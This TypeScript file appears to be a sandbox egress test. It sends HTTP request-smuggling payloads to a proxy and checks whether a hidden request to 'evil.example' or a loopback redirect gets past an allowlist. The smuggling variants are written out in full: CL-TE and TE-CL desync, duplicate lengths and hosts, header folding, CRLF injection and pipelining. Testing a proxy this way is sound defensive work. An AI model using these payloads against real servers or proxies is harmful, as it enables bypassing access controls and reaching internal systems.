/**
 * Requests that two readers could understand differently. The listed server is a lenient reader; it notes every request
 * that it sees, and the host looks there for the one that was hidden.
 */

import { askProxy } from './ask-proxy.ts'
import { type Attempt, escaped, type Facts, notTried, stopped, type Verdict } from './attempt.ts'
import { talk } from './network.ts'
import { requestAttempts } from './requests.ts'

const HOST = 'host.docker.internal'
const group = 'smuggling'

/** Every hidden request asks for this path; `id` tells which attempt hid it. */
const HIDDEN_PATH = '/hidden-'

export function smugglingAttempts(facts: Facts): Attempt[] {
  if (facts.mode === 'bridge') return []
  return [
    ...requestAttempts(facts),
    ...(facts.mode === 'allowlist' ? [...hidden(facts), ...redirects(facts)] : []),
  ]
}

/** Requests to the listed host with another one inside. */
function hidden(facts: Facts): Attempt[] {
  const { ports } = facts
  const listed = `${HOST}:${ports.listed}`
  const hide = (id: string, tried: string, bytes: (secret: string) => string): Attempt => ({
    id: `smuggle-${id}`,
    group,
    tried,
    run: () => send(facts, bytes(`GET ${HIDDEN_PATH}${id} HTTP/1.1\r\nHost: evil.example\r\n\r\n`)),
  })
  const post = (headers: string, body: string) =>
    `POST http://${listed}/ HTTP/1.1\r\nHost: ${listed}\r\n${headers}\r\n\r\n${body}`
  const get = (headers: string, body = '') =>
    `GET http://${listed}/ HTTP/1.1\r\nHost: ${listed}\r\n${headers}\r\n\r\n${body}`
  const chunk = (text: string) => `${text.length.toString(16)}\r\n${text}\r\n0\r\n\r\n`
  return [
    hide('cl-te', 'Content-Length against Transfer-Encoding', (it) =>
      post(`Content-Length: ${it.length + 5}\r\nTransfer-Encoding: chunked`, `0\r\n\r\n${it}`),
    ),
    hide('te-cl', 'Transfer-Encoding against Content-Length', (it) =>
      post('Transfer-Encoding: chunked\r\nContent-Length: 4', chunk(it)),
    ),
    hide('two-lengths', 'two lengths', (it) => post(`Content-Length: 0\r\nContent-Length: ${it.length}`, it)),
    hide('list-of-lengths', 'a list of lengths', (it) => post(`Content-Length: 0, ${it.length}`, it)),
    hide('signed-length', 'a length with a sign', (it) => post('Content-Length: +0', it)),
    hide('te-space', 'a space before the colon', (it) =>
      post(`Transfer-Encoding : chunked\r\nContent-Length: 5`, `0\r\n\r\n${it}`),
    ),
    hide('te-unknown', 'an unknown Transfer-Encoding', (it) =>
      post(`Transfer-Encoding: xchunked\r\nContent-Length: 0`, it),
    ),
    hide('te-twice', 'Transfer-Encoding twice', (it) =>
      post('Transfer-Encoding: chunked\r\nTransfer-Encoding: identity', `0\r\n\r\n${it}`),
    ),
    hide('te-not-last', 'chunked, but not last', (it) =>
      post('Transfer-Encoding: chunked, identity', `0\r\n\r\n${it}`),
    ),
    hide('folded', 'a folded header', (it) =>
      post(`X: y\r\n Transfer-Encoding: chunked\r\nContent-Length: 0`, it),
    ),
    hide(
      'bare-lf',
      'lines that end in LF only',
      (it) => `POST http://${listed}/ HTTP/1.1\nHost: ${listed}\nContent-Length: 0\n\n${it}`,
    ),
    hide('bare-cr', 'a CR in a header', (it) =>
      post(`X: y\rTransfer-Encoding: chunked\r\nContent-Length: 0`, it),
    ),
    hide('nul', 'a NUL in a header', (it) => post(`X: y\0\r\nContent-Length: 0`, it)),
    hide('get-with-body', 'a GET with a body', (it) => get(`Content-Length: ${it.length}`, it)),
    hide('get-with-chunks', 'a GET with chunks', (it) => get('Transfer-Encoding: chunked', chunk(it))),
    hide('named-length', 'a length that Connection takes away', (it) =>
      post(`Connection: Content-Length\r\nContent-Length: ${it.length}`, it),
    ),
    hide(
      'named-host',
      'a Host that Connection takes away',
      () =>
        `GET http://${listed}${HIDDEN_PATH}named-host HTTP/1.1\r\nHost: evil.example\r\nConnection: close, Host\r\n\r\n`,
    ),
    hide('chunk-size', 'a chunk size that overflows', (it) =>
      post('Transfer-Encoding: chunked', `10000000000000000\r\n\r\n0\r\n\r\n${it}`),
    ),
    hide('chunk-extension', 'a line end in a chunk extension', (it) =>
      post('Transfer-Encoding: chunked', `0;\n\r\n\r\n${it}`),
    ),
    hide('trailer', 'a trailer', (it) =>
      post('Transfer-Encoding: chunked', `0\r\nContent-Length: 9\r\n\r\n${it}`),
    ),
    hide(
      'crlf-in-path',
      'a line end in the path',
      () =>
        `GET http://${listed}/%0d%0aHost:%20evil.example%0d%0a\rX HTTP/1.1\r\nHost: ${listed}\r\nConnection: close\r\n\r\n`,
    ),
    hide(
      'two-hosts',
      'two Host headers',
      () =>
        `GET http://${listed}${HIDDEN_PATH}two-hosts HTTP/1.1\r\nHost: ${listed}\r\nHost: evil.example\r\nConnection: close\r\n\r\n`,
    ),
    hide(
      'pipelined',
      'a second request behind the first, for an unlisted host',
      () => `${get('')}GET http://evil.example${HIDDEN_PATH}pipelined HTTP/1.1\r\nHost: evil.example\r\n\r\n`,
    ),
    hide('expect', 'an Expect that is never met', (it) =>
      post(`Expect: 100-continue\r\nContent-Length: 0`, it),
    ),
  ]
}

/** The host's server overrules this: it knows how many requests it saw. */
async function send(facts: Facts, bytes: string): Promise<Verdict> {
  const answer = await talk(
    { host: '127.0.0.1', port: facts.inside.proxyPort },
    Buffer.from(bytes, 'latin1'),
    700,
  ).catch((error: Error) => error)
  if (answer instanceof Error) return notTried(`the proxy could not be asked: ${answer.message}`)
  const statuses = [...answer.toString('latin1').matchAll(/^HTTP\/1\.1 (\d{3})/gm)].map(
    ([, status]) => status,
  )
  return stopped(
    statuses.length === 0
      ? 'the proxy passed nothing on that could be answered'
      : `the proxy answered ${statuses.join(', then ')}, and the listed server saw no hidden request`,
  )
}

/** A listed server is asked to send us elsewhere. */
function redirects(facts: Facts): Attempt[] {
  const { ports } = facts
  return [
    {
      id: 'redirect',
      group,
      tried: "following a listed server's redirect to the host's loopback",
      run: async () => {
        const listed = `${HOST}:${ports.listed}`
        const first = await askProxy(
          facts,
          `GET http://${listed}/redirect HTTP/1.1\r\nHost: ${listed}\r\nConnection: close\r\n\r\n`,
        )
        if (first.status !== 302) return notTried(`the listed server answered ${first.status}`)
        const next = await askProxy(
          facts,
          `GET http://127.0.0.1:${ports.loopback}/ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n`,
        )
        return next.kind === 'blocked-by-allowlist'
          ? stopped(`${next.status}: ${next.text}`)
          : escaped(`${next.status}: ${next.text}`)
      },
    },
  ]
}
